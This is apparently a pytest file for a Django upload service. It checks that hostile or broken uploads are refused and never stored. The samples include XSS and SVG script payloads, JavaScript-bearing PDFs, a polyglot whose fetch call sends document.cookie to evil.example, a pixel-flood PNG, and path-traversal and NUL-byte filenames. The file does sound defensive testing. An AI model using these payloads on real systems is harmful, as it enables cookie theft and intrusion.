"""A corpus of hostile and broken files, generated here: each is refused with
its code, and nothing of it is stored (no object, no File row)."""

import io
import struct
import zlib

import pytest
from django.test.client import ClientHandler

from tenants.models import AuditEvent
from tests.helpers import error_code
from uploads.pipeline.scanning import EICAR

from .conftest import ACME, PDF, file_rows, image_bytes, multipart, settings_set, stored_keys


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_flood_png(side: int = 30_000) -> bytes:
    """A few hundred bytes declaring side×side 1-bit pixels (900 Mpx)."""
    rows = zlib.compress(b"\x00" * (1 + side // 8) * 64)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


CORPUS = {
    "wrong extension": ("setup.exe", b"MZ\x90\x00\x03" + b"\x00" * 100, 415, "file_type_not_allowed"),
    "extension/content mismatch": ("photo.jpg", image_bytes("PNG"), 415, "file_type_mismatch"),
    "HTML disguised as a PNG": (
        "cat.png",
        b"<!DOCTYPE html><html><script>alert(document.cookie)</script>",
        415,
        "file_type_mismatch",
    ),
    "SVG disguised as a JPEG": (
        "logo.jpg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        415,
        "file_type_mismatch",
    ),
    "SVG as itself": ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>', 415, "file_type_not_allowed"),
    "PDF with JavaScript": (
        "invoice.pdf",
        PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction <</S /JavaScript /JS (app.alert(1))>>"),
        415,
        "file_type_not_allowed",
    ),
    "PDF with an escaped JavaScript name": (
        "invoice.pdf",
        PDF.replace(b"/Type /Catalog", b"/Type /Catalog /AA <</S /J#61vaScript>>"),
        415,
        "file_type_not_allowed",
    ),
    "JS/PDF polyglot": (
        "report.pdf",
        b"/*" + PDF + b"*/ fetch('https://evil.example/'+document.cookie);",
        415,
        "file_type_mismatch",
    ),
    "zero bytes": ("empty.png", b"", 400, "file_empty"),
    "truncated JPEG": ("cut.jpg", image_bytes("JPEG", size=(400, 300))[:600], 422, "invalid_image"),
    "truncated PNG": ("cut.png", image_bytes("PNG", size=(400, 300))[:-30], 422, "invalid_image"),
    "pixel flood": ("flood.png", pixel_flood_png(), 422, "invalid_image"),
    "EICAR inside a PNG": ("photo.png", image_bytes("PNG") + EICAR, 422, "malware_detected"),
    "path traversal name": ("../../../etc/cron.d/job.png", image_bytes("PNG"), 400, "filename_invalid"),
    "windows traversal name": ("..\\..\\boot.png", image_bytes("PNG"), 400, "filename_invalid"),
    "NUL byte name": ("shell.php\x00.png", image_bytes("PNG"), 400, "filename_invalid"),
    "5,000-character name": ("a" * 4996 + ".png", image_bytes("PNG"), 400, "filename_invalid"),
    "300-character name": ("a" * 296 + ".png", image_bytes("PNG"), 400, "filename_invalid"),
}


@pytest.mark.parametrize("case", CORPUS, ids=list(CORPUS))
def test_the_corpus_is_refused_and_nothing_is_stored(uploader, people, acme, case):
    filename, content, status, code = CORPUS[case]

    response = uploader.file(people["member"], filename, content)

    assert (response.status_code, error_code(response)) == (status, code), response.content
    assert stored_keys(acme) == [] and file_rows(acme) == []


def test_eicar_as_a_text_file_is_refused_and_audited(uploader, people, acme):
    settings_set(acme, allowed_file_types=["txt", "png"])

    response = uploader.file(people["member"], "notes.txt", EICAR + b"\r\n")

    assert (response.status_code, error_code(response)) == (422, "malware_detected")
    assert stored_keys(acme) == [] and file_rows(acme) == []
    event = AuditEvent.objects.get(tenant=acme, action="upload.malware_detected")
    assert event.actor.email == "member@acme.test" and event.target == "file:notes.txt"
    assert event.after["signature"] == "Eicar-Test-Signature" and event.after["scanner"] == "builtin-eicar"


def test_the_same_corpus_as_a_batch_refuses_every_file_by_name(uploader, people, acme):
    cases = ["wrong extension", "HTML disguised as a PNG", "zero bytes", "pixel flood", "EICAR inside a PNG"]
    parts = [("files", "good.png", image_bytes())] + [("files", CORPUS[c][0], CORPUS[c][1]) for c in cases]

    response = uploader.post("/api/upload/multiple", parts, token=people["member"])

    assert (response.status_code, error_code(response)) == (400, "files_invalid")
    refused = response.json()["error"]["details"]["files"]
    assert [(f["index"], f["code"]) for f in refused] == [(i + 1, CORPUS[c][3]) for i, c in enumerate(cases)]
    assert stored_keys(acme) == [] and file_rows(acme) == []


def test_names_are_kept_only_as_cleaned_metadata(uploader, people, acme):
    response = uploader.file(people["member"], "C:\\fakepath\\my\tphoto\u202egnp.png", image_bytes())

    assert response.status_code == 201, response.content
    body = response.json()
    assert body["original_name"] == "myphotognp.png"
    assert body["key"].rsplit("/", 1)[1][:32].isalnum() and stored_keys(acme) == [body["key"]]


def test_an_oversized_body_is_cut_off_at_the_limit_not_read_to_its_end(people, acme):
    """Through the whole Django stack (the test client's handler), with a request stream counting what is read."""
    settings_set(acme, max_upload_mb=1)
    body, content_type = multipart([("file", "big.pdf", PDF + b"0" * (8 * 1024 * 1024))])

    class CountingStream(io.BytesIO):
        consumed = 0

        def read(self, size=-1):
            data = super().read(size)
            self.consumed += len(data)
            return data

    stream = CountingStream(body)
    environ = {
        "REQUEST_METHOD": "POST",
        "PATH_INFO": "/api/upload",
        "SERVER_NAME": ACME,
        "SERVER_PORT": "80",
        "HTTP_HOST": ACME,
        "CONTENT_TYPE": content_type,
        "CONTENT_LENGTH": str(len(body)),
        "HTTP_AUTHORIZATION": f"Bearer {people['member']}",
        "wsgi.input": stream,
        "wsgi.url_scheme": "http",
        "wsgi.errors": io.StringIO(),
    }
    response = ClientHandler()(environ)

    response.render()
    assert response.status_code == 413 and b'"code":"file_too_large"' in response.content
    assert stream.consumed < 1024 * 1024 + 512 * 1024  # stopped within a chunk of the limit, of 8 MiB sent
    assert stored_keys(acme) == [] and file_rows(acme) == []
